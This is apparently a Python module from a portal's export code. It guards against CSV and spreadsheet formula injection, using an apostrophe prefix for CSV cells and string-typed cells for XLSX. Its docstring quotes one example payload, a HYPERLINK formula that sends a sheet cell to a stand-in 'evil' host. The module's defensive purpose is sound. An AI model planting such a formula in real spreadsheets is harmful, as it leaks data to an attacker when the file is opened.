"""Spreadsheets and CSV files the portal writes: user text stays text.

A spreadsheet runs a cell that starts with ``=`` (and, in CSV, ``+``, ``-``, ``@``, a tab
or a carriage return) as a formula, so a name such as ``=HYPERLINK("http://evil/?"&B6)``
would leak the sheet to whoever opened it. The portal writes no formulas of its own, so
every writer goes through here: CSV cells get OWASP's leading apostrophe, XLSX cells are
stored as strings (their text kept exact)."""
import csv
import io

CSV_FORMULA_STARTS = ('=', '+', '-', '@', '\t', '\r')


def csv_cell(value):
    """``value`` as a CSV cell no spreadsheet will run (OWASP's advice against CSV
    injection)."""
    if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
        return "'" + value
    return value


class csv_writer:
    """A ``csv.writer`` whose rows go through ``csv_cell``."""

    def __init__(self, fileobj, **options):
        self.writer = csv.writer(fileobj, **options)

    def writerow(self, row):
        return self.writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def save_xlsx(book):
    """The workbook saved; a cell openpyxl took for a formula (a string starting with
    ``=``) is written as the string it was given."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == 'f':
                    cell.data_type = 's'
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
